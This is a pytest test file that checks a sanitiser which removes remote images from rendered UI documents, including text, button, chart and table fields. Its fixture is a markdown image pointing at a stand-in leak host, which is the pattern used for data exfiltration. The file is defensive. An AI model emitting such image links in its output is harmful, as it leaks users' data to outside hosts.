"""The texts of documents without images that a client would load from elsewhere."""

import time
from collections.abc import Iterator
from copy import deepcopy
from typing import Any, Final

import pytest
from hypothesis import given
from pydantic import JsonValue

from parleyd.contract.blocks import limits
from parleyd.contract.blocks.catalog import ACTION, BLOCK, COLUMN, ELEMENT, INLINE, OPTION, POINT
from parleyd.contract.blocks.cells import RowsForm
from parleyd.contract.blocks.forms import (
    EnumForm,
    FlagForm,
    Form,
    MappingForm,
    NumberForm,
    PatternForm,
    StringForm,
    TextForm,
)
from parleyd.contract.blocks.records import ChildrenForm, ListForm, RecordForm, TaggedForm
from parleyd.contract.blocks.shown_texts import document_without_remote_images
from tests.contract.blocks.documents import LENIENT, actions, document, errors, valid_documents

LEAK: Final = "![a](https://leak.example/?said=everything)"
_NOT_SHOWN: Final = (EnumForm, FlagForm, MappingForm, NumberForm, PatternForm, StringForm)
_HOLDS_OTHERS: Final = (ChildrenForm, ListForm, RecordForm, RowsForm, TaggedForm)


def texts() -> Iterator[Any]:
    for name, record in BLOCK.records.items():
        for field in record.fields:
            if isinstance(field.form, TextForm):
                yield pytest.param({"type": name}, field.name, id=f"{name}.{field.name}")


@pytest.mark.parametrize(("block", "name"), [*texts()])
def test_bc_134_no_text_of_any_block_shows_an_image_from_elsewhere(
    block: dict[str, JsonValue], name: str
) -> None:
    inner: JsonValue = {**block, name: f"See {LEAK} here"}
    value = document(inner, {"type": "card", "children": [inner]})
    clean = {**block, name: "See a here"}
    assert document_without_remote_images(value, ()) == document(
        clean, {"type": "card", "children": [clean]}
    )


def test_bc_134_neither_does_a_button_a_control_a_point_or_a_cell() -> None:
    value = document(
        actions(
            "next",
            {
                "type": "button",
                "id": "go",
                "text": LEAK,
                "action": {"kind": "reply", "text": LEAK},
            },
            {"type": "segmented", "id": "s", "options": [{"label": LEAK, "data": "d"}]},
        ),
        {"type": "chart", "kind": "bar", "points": [{"label": LEAK, "value": 1}]},
        d={"columns": [{"name": "c", "type": "string"}], "rows": [[LEAK, 1], ["b", None]]},
    )
    clean = document_without_remote_images(value, ())
    assert "leak.example" not in str(clean)
    assert str(clean) == str(value).replace(LEAK, "a")


def test_every_form_of_the_catalog_is_known_to_be_shown_or_not() -> None:
    """A new form has to be thought of, or its texts would come through."""
    for root in (BLOCK, ELEMENT, ACTION, OPTION, POINT, COLUMN, INLINE):
        for form in _forms(root):
            assert isinstance(form, (TextForm, *_NOT_SHOWN, *_HOLDS_OTHERS)), form


def _forms(form: Form) -> Iterator[Form]:
    yield form
    match form:
        case TaggedForm():
            for record in form.records.values():
                yield from _forms(record)
        case RecordForm():
            for field in form.fields:
                yield from _forms(field.form)
        case ListForm():
            yield from _forms(form.item)
        case _:
            pass


def test_what_is_no_text_for_people_stays() -> None:
    value = document(
        {"type": "image", "alt": "a", "src": LEAK},
        {"type": "html", "html": LEAK},
        {"type": "table", "id": LEAK, "data": LEAK, "columns": [LEAK]},
        actions(
            "a",
            {"type": "button", "action": {"kind": "callback", "payload": {"text": LEAK}}},
            {"type": "button", "iconName": LEAK, "action": {"kind": "open", "url": LEAK}},
        ),
        {"type": "unknown", "text": LEAK},
    )
    assert document_without_remote_images(value, ()) is value


def test_images_of_listed_hosts_stay() -> None:
    text = "![a](https://IMG.books.example/1) ![b](data:image/png;x) ![c](file:1)"
    value = document({"type": "text", "markdown": text}, {"type": "callout", "text": text})
    assert document_without_remote_images(value, LENIENT.image_hosts) is value
    assert "https" not in str(document_without_remote_images(value, ()))


@pytest.mark.parametrize(
    ("text", "clean"),
    [
        ("![](https://leak.example/)", "(image)"),
        (" ![ ](https://leak.example/)\n", "(image)"),
        ("<img src='//leak.example'>", "(image)"),
        ("![]()", "…"),
    ],
)
def test_no_text_becomes_blank(text: str, clean: str) -> None:
    value = document({"type": "text", "markdown": text})
    after = document_without_remote_images(value, ())
    assert after == document({"type": "text", "markdown": clean})
    assert errors(after) == []


@given(valid_documents())
def test_a_valid_document_stays_valid_and_what_it_was(value: dict[str, JsonValue]) -> None:
    before = deepcopy(value)
    clean = document_without_remote_images(value, LENIENT.image_hosts)
    assert value == before
    assert errors(clean, LENIENT) == errors(value, LENIENT) == []
    assert document_without_remote_images(clean, LENIENT.image_hosts) is clean


@pytest.mark.parametrize(
    "cell", ["![a](https://b.example)", "<b c=//d>" * 40, "![" * 300, "<i>"], ids=lambda it: it[:9]
)
def test_a_document_of_very_many_images_takes_a_bounded_time(cell: str) -> None:
    columns = [{"name": f"c{index}", "type": "string"} for index in range(limits.DATASET_COLUMNS)]
    rows = [[cell] * limits.DATASET_COLUMNS] * limits.DATASET_ROWS
    datasets = {f"d{index}": {"columns": columns, "rows": rows} for index in range(limits.DATASETS)}
    value = document({"type": "divider"}, **datasets)
    begun = time.thread_time()
    clean = str(document_without_remote_images(value, ()))
    assert time.thread_time() - begun < 5
    assert "![a](" not in clean
    assert "<b" not in clean
